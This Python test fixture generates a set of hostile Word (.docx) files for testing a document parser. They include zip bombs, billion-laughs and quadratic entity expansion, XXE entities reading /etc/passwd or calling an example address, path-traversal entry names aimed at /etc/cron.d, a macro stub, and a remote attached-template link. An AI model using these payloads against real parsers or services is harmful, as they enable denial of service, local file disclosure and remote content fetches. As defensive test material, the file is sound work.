"""Hostile Word files: zips that unpack to much, XML that grows, parts that should not be there."""

import io
import random
import zipfile
from collections.abc import Callable, Mapping
from functools import cache
from typing import Final

from .texts import LAW

_W: Final = 'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
_DOCUMENT: Final = "word/document.xml"
_OLE: Final = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"


@cache
def good() -> bytes:
    """A Word file of the law."""
    import docx

    document = docx.Document()
    for line in LAW.split("\n"):
        document.add_paragraph(line)
    packed = io.BytesIO()
    document.save(packed)
    return packed.getvalue()


def _with(parts: Mapping[str, bytes], level: int = 9) -> bytes:
    """The good file with these parts, in place of its own or beside them."""
    packed = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(good())) as source,
        zipfile.ZipFile(packed, "w", zipfile.ZIP_DEFLATED, compresslevel=level) as target,
    ):
        for name in source.namelist():
            if name not in parts:
                target.writestr(name, source.read(name))
        for name, data in parts.items():
            target.writestr(name, data)
    return packed.getvalue()


def _body(inside: str, before: str = "") -> bytes:
    return f'<?xml version="1.0"?>{before}<w:document {_W}><w:body>{inside}</w:body></w:document>'.encode()


def _paragraph(text: str) -> str:
    return f"<w:p><w:r><w:t>{text}</w:t></w:r></w:p>"


def _laughs() -> bytes:
    entities = '<!ENTITY a "hahahahaha">' + "".join(f'<!ENTITY {b} "{f"&{a};" * 10}">' for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    return _with({_DOCUMENT: _body(_paragraph("&i;"), f"<!DOCTYPE w [{entities}]>")})


def _quadratic() -> bytes:
    return _with({_DOCUMENT: _body(_paragraph("&a;" * 50_000), f'<!DOCTYPE w [<!ENTITY a "{"a" * 50_000}">]>')})


def _entity(address: str) -> bytes:
    return _with({_DOCUMENT: _body(_paragraph("Điều 1. &x;"), f'<!DOCTYPE w [<!ENTITY x SYSTEM "{address}">]>')})


def _declared_small() -> bytes:
    """A part whose header claims 1,000 bytes and that unpacks to 40 million."""
    data = bytearray(_with({_DOCUMENT: _body(_paragraph("a" * 40_000_000))}))
    with zipfile.ZipFile(io.BytesIO(bytes(data))) as package:
        size = package.getinfo(_DOCUMENT).file_size.to_bytes(4, "little")
    return bytes(data).replace(size, (1000).to_bytes(4, "little"))


def _truncated(share: float) -> Callable[[], bytes]:
    return lambda: good()[: int(len(good()) * share)]


def _changed(seed: int) -> Callable[[], bytes]:
    def make() -> bytes:
        data, drawn = bytearray(good()), random.Random(seed)
        for _ in range(200):
            data[drawn.randrange(len(data))] = drawn.randrange(256)
        return bytes(data)

    return make


def _encrypted_flag() -> bytes:
    data = bytearray(good())
    at = data.index(b"PK\x01\x02")
    data[at + 8] |= 1
    return bytes(data)


_ROW: Final = f"<w:tr><w:tc>{_paragraph('a')}</w:tc><w:tc>{_paragraph('b')}</w:tc></w:tr>"
_TEMPLATE: Final = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
    b'Target="http://198.51.100.1/t.dotm" TargetMode="External"/></Relationships>'
)

FILES: Final[Mapping[str, tuple[str, Callable[[], bytes]]]] = {
    "bom-zip.docx": ("a picture of 400 MB in 400 KB", lambda: _with({"word/media/a.png": bytes(400_000_000)})),
    "bom-xml-lon.docx": ("a main part of 60 MB in 60 KB", lambda: _with({_DOCUMENT: _body(_paragraph("a" * 60_000_000))})),
    "bom-the.docx": ("1.5 million empty paragraphs", lambda: _with({_DOCUMENT: _body("<w:p/>" * 1_500_000)})),
    "bom-khai-nho.docx": ("a part that claims to be small and is 40 MB", _declared_small),
    "nhieu-phan.docx": ("6,000 parts", lambda: _with({f"customXml/a{n}.xml": b"<a/>" for n in range(6_000)})),
    "cuoi-ty.docx": ("entities that multiply (billion laughs)", _laughs),
    "bac-hai.docx": ("an entity of 50 KB used 50,000 times", _quadratic),
    "thuc-the-tep.docx": ("an external entity: a file of this machine", lambda: _entity("file:///etc/passwd")),
    "thuc-the-mang.docx": ("an external entity: an address", lambda: _entity("http://198.51.100.1/x")),
    "long-nhau.docx": ("content controls nested 5,000 deep", lambda: _with(
        {_DOCUMENT: _body("<w:sdt><w:sdtContent>" * 5_000 + _paragraph("a") + "</w:sdtContent></w:sdt>" * 5_000)})),
    "bang-long.docx": ("tables nested 80 deep", lambda: _with(
        {_DOCUMENT: _body("<w:tbl><w:tr><w:tc>" * 80 + _paragraph("a") + "</w:tc></w:tr></w:tbl>" * 80)})),
    "bang-lon.docx": ("a table of 100,000 rows", lambda: _with(
        {_DOCUMENT: _body(f"<w:tbl>{_ROW * 100_000}</w:tbl>")})),
    "duong-dan.docx": ("path names that leave the package", lambda: _with({"../../../../tmp/x.txt": b"x", "/etc/cron.d/x": b"x"})),
    "macro.docx": ("a macro project and an embedded program", lambda: _with({"word/vbaProject.bin": _OLE, "word/embeddings/a.exe": b"MZ"})),
    "mau-ngoai.docx": ("a template to be fetched from elsewhere", lambda: _with({"word/_rels/settings.xml.rels": _TEMPLATE})),
    "khoa.docx": ("password, as old packages say it", _encrypted_flag),
    "khoa-ole.docx": ("password, as Word says it", lambda: _OLE + bytes(500) + "EncryptedPackage".encode("utf-16-le") + bytes(500)),
    "doc-doi-duoi.docx": ("an old Word file named .docx", lambda: _OLE + bytes(2_000)),
    "html-doi-duoi.docx": ("HTML named .docx", lambda: b"<html><body>" + LAW.encode()),
    "rong.docx": ("empty", lambda: b""),
    "zip-rong.docx": ("a zip with nothing in it", lambda: b"PK\x05\x06" + bytes(18)),
    "cut-10.docx": ("cut at a tenth", _truncated(0.1)),
    "cut-50.docx": ("cut at the half", _truncated(0.5)),
    "cut-99.docx": ("cut just before the end", _truncated(0.99)),
    "loi-1.docx": ("200 bytes changed", _changed(1)),
    "loi-2.docx": ("200 bytes changed", _changed(2)),
}  # fmt: skip
